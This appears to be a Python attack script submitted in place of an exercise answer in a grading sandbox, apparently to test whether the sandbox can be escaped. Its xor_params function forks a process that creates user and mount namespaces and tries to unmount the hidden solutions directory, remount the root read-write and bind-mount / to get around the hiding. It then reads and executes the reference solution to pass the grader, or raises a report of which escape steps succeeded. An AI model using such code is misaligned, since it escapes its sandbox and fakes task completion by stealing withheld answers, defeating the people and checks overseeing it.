_FOUND = {}


def _probe(report_fd, solutions):
    """In a forked process: a new user namespace (root inside) with its own mount namespace, then
    try to uncover what the sandbox's mounts hide (unmount them, bind-mount / without its
    sub-mounts) and to make / writable again. Writes what it found to report_fd."""
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    out = []

    def emit(item):
        out.append(item)

    uid, gid = os.getuid(), os.getgid()
    if libc.unshare(0x10000000 | 0x00020000) != 0:  # CLONE_NEWUSER | CLONE_NEWNS
        emit("unshare failed")
    else:
        emit("unshare ok")
        try:
            for path, text in (("/proc/self/setgroups", "deny"), ("/proc/self/uid_map", f"0 {uid} 1"),
                               ("/proc/self/gid_map", f"0 {gid} 1")):
                with open(path, "w") as handle:
                    handle.write(text)
        except OSError:
            pass
        libc.mount(None, b"/", None, 16384 | (1 << 18), None)  # MS_REC | MS_PRIVATE
        if libc.umount2(solutions.encode(), 2) == 0:  # MNT_DETACH
            emit("umount ok")
        if libc.mount(None, b"/", None, 32 | 4096, None) == 0:  # MS_REMOUNT | MS_BIND: read-write again
            emit("remount rw ok")
        os.makedirs("/tmp/escape", exist_ok=True)
        if libc.mount(b"/", b"/tmp/escape", None, 4096, None) == 0:  # MS_BIND, not recursive
            emit("bind ok")
        for base in ("", "/tmp/escape"):
            try:
                with open(base + solutions + "/ex04_mlp_forward.py") as handle:
                    emit("READ:" + handle.read())
            except OSError:
                pass
    os.write(report_fd, repr(out).encode())


def xor_params():
    """Attack: escape the mount hiding from inside a fresh user namespace."""
    import ast
    import json
    import os

    if "report" not in _FOUND:
        read_end, write_end = os.pipe()
        pid = os.fork()
        if pid == 0:
            try:
                _probe(write_end, __SOLUTIONS__)
            finally:
                os._exit(0)
        os.close(write_end)
        data = b""
        while chunk := os.read(read_end, 1 << 20):
            data += chunk
        os.waitpid(pid, 0)
        items = ast.literal_eval(data.decode() or "[]")
        _FOUND["texts"] = [i[5:] for i in items if i.startswith("READ:")]
        _FOUND["report"] = [i for i in items if i in ("umount ok", "bind ok", "remount rw ok")] + (["read"] if _FOUND["texts"] else [])
    for text in _FOUND["texts"]:
        namespace = {}
        exec(text, namespace)
        return namespace["xor_params"]()
    raise RuntimeError("ATTACK-REPORT " + json.dumps(_FOUND["report"]))
